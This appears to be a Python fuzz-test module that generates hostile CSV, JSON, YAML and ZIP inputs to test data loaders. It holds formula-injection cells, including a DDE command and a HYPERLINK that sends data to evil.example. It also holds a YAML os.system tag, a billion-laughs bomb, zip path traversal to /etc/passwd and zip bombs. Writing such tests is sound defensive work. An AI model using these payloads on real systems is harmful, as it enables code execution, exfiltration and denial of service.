"""Hostile variants of a valid sample: the fuzz corpus, as deterministic functions.

:func:`variants` turns one loader's valid sample into named hostile files (wrong encodings,
binary garbage, NUL bytes, broken quoting, mixed newlines, NaN/infinite coordinates, formula
strings, malformed structure). ``make_corpus.py`` writes the same functions' output for one
sample per kind into ``tests/data/fuzz/``; the tests also apply them to every loader.
Big cases (a 50 MB cell, JSON nested 100,000 deep, a zip bomb) are built at test time by
the ``huge_*`` / ``deep_*`` functions instead of being committed.
"""

from __future__ import annotations

import io
import json
import random
import warnings
import zipfile
from collections.abc import Callable

from tests.fuzz.loaders import Loader, Table

NON_FINITE = ("nan", "NaN", "inf", "-inf", "Infinity", "-Infinity", "1e309", "-1e309",
              "1e-400", "0x1p3", "１２", "")
FORMULAS = ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=cmd", "\r=cmd",
            '=HYPERLINK("http://evil.example/?"&A1,"click")', "-", "=")
NASTY_TEXT = ("Kyïv – “quoted”", "\u202eevil\u202c", "a\u2028b", "\ufeff", "\x7f\x1b[31m",
              "😀" * 20, "\\N", "NULL", "'", '"', '""', ",", "\n", "\r\n")


def _seeded(seed: str) -> random.Random:
    return random.Random(seed)  # reproducible fuzz input


def byte_variants(sample: bytes) -> dict[str, bytes]:
    """Variants that do not need to know the format: encodings, garbage, truncation."""
    text = sample.decode("utf-8")
    rng = _seeded("bytes")
    garbage = bytes(rng.randrange(256) for _ in range(2048))
    mid = len(sample) // 2
    return {
        "empty": b"",
        "whitespace_only": b" \n\t\r\n  ",
        "bom_only": b"\xef\xbb\xbf",
        "utf16_bom": text.encode("utf-16"),
        "utf16le_no_bom": text.encode("utf-16-le"),
        "utf32": text.encode("utf-32"),
        "latin1_accents": text.replace("a", "\u00e4").encode("latin-1", "replace"),
        "invalid_utf8_at_end": sample + b"\xff\xfe\xc3",
        "binary_garbage": garbage,
        "garbage_no_nul": garbage.replace(b"\x00", b"\x01"),
        "nul_inside": sample[:mid] + b"\x00" + sample[mid:],
        "nul_after_64k": sample + (b" " * 70_000) + b"\x00\n",
        "truncated_half": sample[:mid],
        "truncated_one_byte": sample[:-1],
        "unterminated_quote": sample + b'"never closed,\n' + b"x" * 100,
        "mixed_newlines": _mixed_newlines(sample),
        "cr_only": sample.replace(b"\n", b"\r"),
        "gzip_magic": b"\x1f\x8b\x08\x00" + garbage[:200].replace(b"\x00", b"\x01"),
        "zip_magic": b"PK\x03\x04" + garbage[:200].replace(b"\x00", b"\x01"),
    }


def _mixed_newlines(sample: bytes) -> bytes:
    out = bytearray()
    endings = (b"\n", b"\r\n", b"\r")
    for i, line in enumerate(sample.split(b"\n")):
        out += line + (endings[i % 3] if i else b"\n")
    return bytes(out)


def table_variants(table: Table) -> dict[str, bytes]:
    """CSV variants: hostile cells in otherwise valid rows, and broken structure."""
    good = [list(r) for r in table.rows]
    width = len(table.header)
    out: dict[str, str] = {
        "header_only": table.render([]),
        "ragged_short_row": table.render([*good, good[0][: width // 2]]),
        "ragged_long_row": table.render([*good, [*good[0], "x", "y"]]),
        "duplicate_header": table.render().replace(
            ",".join(table.header), ",".join([*table.header, table.header[0]]), 1),
        "quote_in_unquoted_field": table.render() + 'a"b,c"d\n',
        "header_quote_never_closed": '"' + ",".join(table.header) + "\n" + "x\n" * 3,
    }
    if table.coords:
        rows = [*good]
        for value in NON_FINITE:
            for column in table.coords:
                row = list(good[0])
                row[list(table.header).index(column)] = value
                rows.append(row)
        out["non_finite_coordinates"] = table.render(rows)
    rows = [*good]
    for value in NON_FINITE + FORMULAS[:3]:
        rows.append([value] * width)  # every column, ids and codes included
    out["every_cell_hostile"] = table.render(rows)
    if table.texts:
        rows = [*good]
        for value in FORMULAS + NASTY_TEXT:
            row = list(good[1 % len(good)])
            row[list(table.header).index(table.texts[0])] = value
            rows.append(row)
        out["hostile_text_cells"] = table.render(rows)
    return {k: v.encode("utf-8") for k, v in out.items()}


def json_variants(sample: bytes) -> dict[str, bytes]:
    """JSON variants: wrong shapes where a reader expects objects, numbers, lists."""
    doc = json.loads(sample)
    feature = (doc.get("features") or [{}])[0]
    shapes: dict[str, object] = {
        "top_level_array": [doc],
        "top_level_number": 1e309,
        "top_level_string": "FeatureCollection",
        "features_not_list": {**doc, "features": {"a": 1}},
        "feature_is_number": {**doc, "features": [1, None, "x", []]},
        "properties_is_list": {**doc, "features": [{**feature, "properties": [1, 2]}]},
        "properties_is_string": {**doc, "features": [{**feature, "properties": "side=RU"}]},
        "geometry_is_string": {**doc, "features": [{**feature, "geometry": "POINT(1 2)"}]},
        "geometry_type_unknown": {**doc, "features": [{**feature,
                                                       "geometry": {"type": "Blob"}}]},
        "coordinates_string": {**doc, "features": [{**feature, "geometry": {
            "type": "Point", "coordinates": "37,48"}}]},
        "coordinates_number": {**doc, "features": [{**feature, "geometry": {
            "type": "Polygon", "coordinates": 5}}]},
        "coordinates_empty": {**doc, "features": [{**feature, "geometry": {
            "type": "MultiPolygon", "coordinates": []}}]},
        "coordinates_ragged": {**doc, "features": [{**feature, "geometry": {
            "type": "Polygon", "coordinates": [[[1], [2, 3, 4, 5], []]]}}]},
        "point_one_coordinate": {**doc, "features": [{**feature, "geometry": {
            "type": "Point", "coordinates": [37.0]}}]},
        "type_is_list": {**doc, "type": ["FeatureCollection"]},
    }
    out = {k: json.dumps(v).encode() for k, v in shapes.items()}
    text = sample.decode()
    out["nan_coordinates"] = text.replace("37.", "NaN, 1").encode() if "37." in text \
        else b'{"type": "Point", "coordinates": [NaN, Infinity]}'
    out["infinity_literals"] = json.dumps(doc).replace("48.0", "Infinity").replace(
        "37.0", "-Infinity").encode()
    out["overflow_1e309"] = json.dumps(doc).replace("48.0", "1e309").encode()
    out["huge_integer"] = json.dumps(doc).replace("48.0", "9" * 5000).encode()
    out["duplicate_keys"] = b'{"type": "FeatureCollection", "type": "Feature", "features": []}'
    out["nested_1000"] = deep_json(1000)
    return out


def yaml_variants(sample: bytes) -> dict[str, bytes]:
    """YAML variants: tags, anchors, a billion-laughs alias bomb, wrong top-level shapes."""
    laughs = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        prev, name = chr(ord("a") + i - 1), chr(ord("a") + i)
        laughs.append(f"{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, "
                      f"*{prev}, *{prev}, *{prev}, *{prev}]")
    return {
        "billion_laughs": ("\n".join(laughs) + "\n").encode(),
        "python_tag": b"!!python/object/apply:os.system ['echo pwned']\n",
        "top_level_list": b"- id: x\n- id: y\n",
        "top_level_scalar": b"just text\n",
        "tab_indent": sample.replace(b"  ", b"\t", 3),
        "duplicate_keys": sample + sample.split(b"\n", 1)[0] + b"\n",
        "unclosed_flow": b"a: [1, 2, {b: 3\n",
        "binary_tag": b"a: !!binary AAAA\n",
        "merge_key": b"base: &b {x: 1}\nthing:\n  <<: *b\n  y: 2\n",
        "deep_flow_1000": b"a: " + b"[" * 1000 + b"]" * 1000 + b"\n",
        "complex_key": b"? [a, b]\n: value\n",
        "huge_int": b"a: " + b"9" * 5000 + b"\n",
    }


def zip_variants() -> dict[str, bytes]:
    """Archives where a bundle is expected: bombs, traversal, lies about sizes."""
    out: dict[str, bytes] = {}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        _put(zf, "finding.json", b"0" * 5_000_000)  # 5 MB of zeros: ~5 kB deflated
    out["deflate_bomb_small"] = buf.getvalue()
    for name, member in (("traversal", "../../etc/passwd"), ("absolute", "/etc/passwd"),
                         ("backslash", "..\\evil.txt")):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            _put(zf, member, b"x")
        out[name] = buf.getvalue()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the duplicate is the point
        _put(zf, "a.txt", b"1")
        _put(zf, "a.txt", b"2")
    out["duplicate_member"] = buf.getvalue()
    ok = io.BytesIO()
    with zipfile.ZipFile(ok, "w") as zf:
        _put(zf, "README.txt", b"hello world" * 10)
    data = bytearray(ok.getvalue())
    out["truncated_archive"] = bytes(data[: len(data) // 2])
    lying = bytearray(data)
    at = lying.find(b"PK\x01\x02")  # central directory: uncompressed size at +24
    lying[at + 24: at + 28] = (10**9).to_bytes(4, "little")
    out["size_lie"] = bytes(lying)
    return out


def _put(zf: zipfile.ZipFile, name: str, data: bytes) -> None:
    """A member with a fixed timestamp, so the committed corpus is reproducible."""
    info = zipfile.ZipInfo(name, date_time=(2026, 11, 30, 0, 0, 0))
    info.compress_type = zf.compression
    zf.writestr(info, data)


def deep_json(depth: int) -> bytes:
    """``{"type": "FeatureCollection", "features": [[[[...]]]]}`` nested ``depth`` deep."""
    return (b'{"type": "FeatureCollection", "features": ' + b"[" * depth + b"]" * depth + b"}")


def deep_yaml(depth: int) -> bytes:
    return b"a: " + b"[" * depth + b"]" * depth + b"\n"


def zip_bomb(total: int = 1 << 30) -> bytes:
    """A ZIP with one deflated member of ``total`` zero bytes (about 1 MB per GB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("finding.json", "w", force_zip64=True) as fh:
        block = b"\0" * (1 << 20)
        for _ in range(total >> 20):
            fh.write(block)
    return buf.getvalue()


def variants(loader: Loader) -> dict[str, bytes]:
    """Every hostile variant of ``loader``'s sample that fits its kind."""
    sample = loader.sample()
    raw = sample.encode("utf-8") if isinstance(sample, str) else sample
    kinds: dict[str, Callable[[], dict[str, bytes]]] = {
        "csv": lambda: table_variants(loader.table) if loader.table else {},
        "json": lambda: json_variants(raw),
        "yaml": lambda: yaml_variants(raw),
        "zip": zip_variants,
    }
    out = kinds[loader.kind]()
    if loader.kind != "zip":
        out.update(byte_variants(raw))
    else:
        out.update({k: v for k, v in byte_variants(b"PK\x05\x06" + b"\0" * 18).items()
                    if k in ("empty", "binary_garbage", "truncated_half")})
    return out
